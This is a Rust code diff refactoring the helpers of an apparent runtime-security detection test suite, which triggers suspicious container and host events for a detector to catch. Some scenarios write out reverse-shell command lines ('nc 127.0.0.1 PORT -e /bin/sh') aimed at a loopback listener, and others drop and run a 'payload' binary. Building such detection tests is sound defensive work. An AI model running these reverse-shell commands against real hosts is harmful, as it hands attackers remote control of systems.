@@ -40,10 +40,15 @@ pub struct Performed {
 }
 
 impl Performed {
-    fn in_container(ct: &Container, scenario: &'static str, cmdline: &str, pname: &str) -> Self {
+    fn new(
+        scenario: &'static str,
+        container_id: Option<String>,
+        cmdline: &str,
+        pname: &str,
+    ) -> Self {
         Performed {
             scenario,
-            container_id: Some(ct.short_id().to_owned()),
+            container_id,
             proc_name: cmdline.split(' ').next().unwrap_or_default().to_owned(),
             cmdline: cmdline.to_owned(),
             pname: pname.to_owned(),
@@ -51,6 +56,17 @@ impl Performed {
             fd_sip: None,
             fd_sport: None,
         }
+    }
+
+    fn in_container(ct: &Container, scenario: &'static str, cmdline: &str, pname: &str) -> Self {
+        Self::new(scenario, Some(ct.short_id().to_owned()), cmdline, pname)
+    }
+
+    /// Records a TCP connection to the host's 127.0.0.1:`port`.
+    fn with_loopback_peer(mut self, port: u16) -> Self {
+        self.fd_sip = Some(IpAddr::V4(Ipv4Addr::LOCALHOST));
+        self.fd_sport = Some(port);
+        self
     }
 }
 
@@ -124,6 +140,17 @@ pub fn write_below_etc(ct: &Container) -> Result<Performed> {
     Ok(p)
 }
 
+/// A TCP listener on the host's 127.0.0.1, port chosen by the kernel.
+fn bind_loopback() -> Result<(TcpListener, u16)> {
+    let listener =
+        TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).map_err(io_err("bind 127.0.0.1:0"))?;
+    let port = listener
+        .local_addr()
+        .map_err(io_err("listener address"))?
+        .port();
+    Ok((listener, port))
+}
+
 /// A TCP listener on the host's 127.0.0.1 serving one connection on a thread.
 pub struct HostListener {
     /// The listening port.
@@ -135,12 +162,7 @@ impl HostListener {
     /// Listens on 127.0.0.1 (port chosen by the kernel); the one connection it accepts is
     /// sent `reply`, then read until the peer closes (at most 10 s).
     pub fn start(reply: &'static [u8]) -> Result<Self> {
-        let listener =
-            TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).map_err(io_err("bind 127.0.0.1:0"))?;
-        let port = listener
-            .local_addr()
-            .map_err(io_err("listener address"))?
-            .port();
+        let (listener, port) = bind_loopback()?;
         let handle = std::thread::spawn(move || {
             let (mut conn, _) = listener.accept()?;
             conn.set_read_timeout(Some(Duration::from_secs(10)))?;
@@ -182,10 +204,7 @@ pub fn connect_localhost(ct: &Container) -> Result<Performed> {
     let got = listener.received()?;
     expect(got == b"moat-hello\n", || format!("listener got {got:?}"))?;
     let cmdline = format!("nc -w 5 127.0.0.1 {port}");
-    let mut p = Performed::in_container(ct, "connect-localhost", &cmdline, "sh");
-    p.fd_sip = Some(IpAddr::V4(Ipv4Addr::LOCALHOST));
-    p.fd_sport = Some(port);
-    Ok(p)
+    Ok(Performed::in_container(ct, "connect-localhost", &cmdline, "sh").with_loopback_peer(port))
 }
 
 /// Reverse shell: `nc 127.0.0.1 PORT -e /bin/sh` in a host-network container; the host
@@ -202,10 +221,7 @@ pub fn reverse_shell(ct: &Container) -> Result<Performed> {
         format!("listener got {got:?}")
     })?;
     let cmdline = format!("nc 127.0.0.1 {port} -e /bin/sh");
-    let mut p = Performed::in_container(ct, "reverse-shell", &cmdline, "runc");
-    p.fd_sip = Some(IpAddr::V4(Ipv4Addr::LOCALHOST));
-    p.fd_sport = Some(port);
-    Ok(p)
+    Ok(Performed::in_container(ct, "reverse-shell", &cmdline, "runc").with_loopback_peer(port))
 }
 
 /// `ptrace-attach` (static helper in the base image) attaches to a sibling `sleep` started
@@ -253,12 +269,7 @@ pub fn chmod_setuid(ct: &Container) -> Result<Performed> {
 
 /// A one-request HTTP server on the host's 127.0.0.1 serving `body`.
 fn serve_once(body: Vec<u8>) -> Result<(u16, JoinHandle<std::io::Result<String>>)> {
-    let listener =
-        TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).map_err(io_err("bind 127.0.0.1:0"))?;
-    let port = listener
-        .local_addr()
-        .map_err(io_err("listener address"))?
-        .port();
+    let (listener, port) = bind_loopback()?;
     let handle = std::thread::spawn(move || {
         let (conn, _) = listener.accept()?;
         conn.set_read_timeout(Some(Duration::from_secs(10)))?;
@@ -371,16 +382,8 @@ pub fn benign_in_container(ct: &Container) -> Result<Vec<Performed>> {
 pub fn benign_on_host(scratch: &Path) -> Result<Vec<Performed>> {
     let base = base_rootfs()?;
     let mut done = Vec::new();
-    let on_host = |scenario, cmdline: &str, pname: &str| Performed {
-        scenario,
-        container_id: None,
-        proc_name: cmdline.split(' ').next().unwrap_or_default().to_owned(),
-        cmdline: cmdline.to_owned(),
-        pname: pname.to_owned(),
-        fd_name: None,
-        fd_sip: None,
-        fd_sport: None,
-    };
+    let on_host =
+        |scenario, cmdline: &str, pname: &str| Performed::new(scenario, None, cmdline, pname);
     // Terminal shell on the host.
     let sh = base.join("bin/sh");
     let command = format!("{} -c tty", sh.display());
@@ -406,14 +409,14 @@ pub fn benign_on_host(scratch: &Path) -> Result<Vec<Performed>> {
         format!("host listener got {got:?}")
     })?;
     let test_comm = fs::read_to_string("/proc/self/comm").unwrap_or_default();
-    let mut p = on_host(
-        "host-reverse-shell",
-        &format!("nc 127.0.0.1 {port} -e {}", sh.display()),
-        test_comm.trim_end(),
+    done.push(
+        on_host(
+            "host-reverse-shell",
+            &format!("nc 127.0.0.1 {port} -e {}", sh.display()),
+            test_comm.trim_end(),
+        )
+        .with_loopback_peer(port),
     );
-    p.fd_sip = Some(IpAddr::V4(Ipv4Addr::LOCALHOST));
-    p.fd_sport = Some(port);
-    done.push(p);
     // Write a binary, then run it.
     let dropped = scratch.join("payload");
     fs::copy(base.join("usr/local/bin/payload"), &dropped)
